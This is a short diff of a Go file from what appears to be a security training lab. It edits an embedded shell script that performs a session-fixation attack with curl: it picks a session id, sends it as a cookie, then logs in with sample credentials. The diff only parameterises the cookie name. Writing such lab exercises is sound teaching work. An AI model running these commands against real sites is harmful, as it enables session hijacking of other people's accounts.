@@ -27,5 +27,5 @@ func sendAll(techniques []technique) (acts []lab.Act) {
 // plantInShell sends a session id of one's own choosing along with a login.
 const plantInShell = `FIXED=$(head -c 32 /dev/urandom | base64 | tr '+/' '-_' | tr -d '=\n')
 curl -s -b "$JAR" -c "$JAR" -H "Seat: $SEAT" -X POST "$SITE/api/session/logout"
-curl -s -H "Seat: $SEAT" -H "Cookie: session=$FIXED" "$SITE/api/session/me"
-curl -s -c "$JAR" -H "Seat: $SEAT" -H "Cookie: session=$FIXED" -X POST -H 'Content-Type: application/json' -d '{"username": "ada", "password": "lovelace"}' "$SITE/api/session/login"`
+curl -s -H "Seat: $SEAT" -H "Cookie: $SESSION=$FIXED" "$SITE/api/session/me"
+curl -s -c "$JAR" -H "Seat: $SEAT" -H "Cookie: $SESSION=$FIXED" -X POST -H 'Content-Type: application/json' -d '{"username": "ada", "password": "lovelace"}' "$SITE/api/session/login"`
